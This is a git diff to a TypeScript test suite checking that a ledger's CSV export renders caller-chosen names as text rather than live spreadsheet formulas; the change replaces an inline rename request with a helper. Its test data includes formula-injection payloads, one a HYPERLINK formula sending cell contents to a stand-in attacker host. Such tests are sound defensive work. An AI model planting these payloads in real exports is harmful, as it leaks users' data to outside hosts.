@@ -1,6 +1,6 @@
 import { parseCsv } from './support/csv.js';
 import { SmtpSink } from './support/smtp-sink.js';
-import { type TestApp, call, dropSchema, setUpOrganization, startTestApp } from './support/test-app.js';
+import { type TestApp, call, dropSchema, rename, setUpOrganization, startTestApp } from './support/test-app.js';
 
 const PROJECT_NAME = '=1+1';
 const KEY_NAME = '=HYPERLINK("http://evil.example/?leak="&A2,"open")';
@@ -105,11 +105,7 @@ describe('ledger CSV export: caller-chosen text is never a live formula', () => 
   test('a rename to a formula: today’s names beside the names as charged are text too', async () => {
     const keys = await call(app.url, 'GET', `/orgs/${owner.orgId}/api-keys`, { token: owner.session });
     const keyId = (keys.body.keys as { id: string; name: string }[]).find((k) => k.name === KEY_NAME)!.id;
-    const renamed = await call(app.url, 'PATCH', `/orgs/${owner.orgId}/api-keys/${keyId}`, {
-      token: owner.session,
-      body: { name: '@SUM(A1:A9)' },
-    });
-    expect(renamed.status).toBe(200);
+    await rename(app, owner, `api-keys/${keyId}`, '@SUM(A1:A9)');
     const audit = await fetch(`${app.url}/orgs/${owner.orgId}/ledger`, {
       headers: { authorization: `Bearer ${owner.session}`, accept: 'text/csv' },
     });
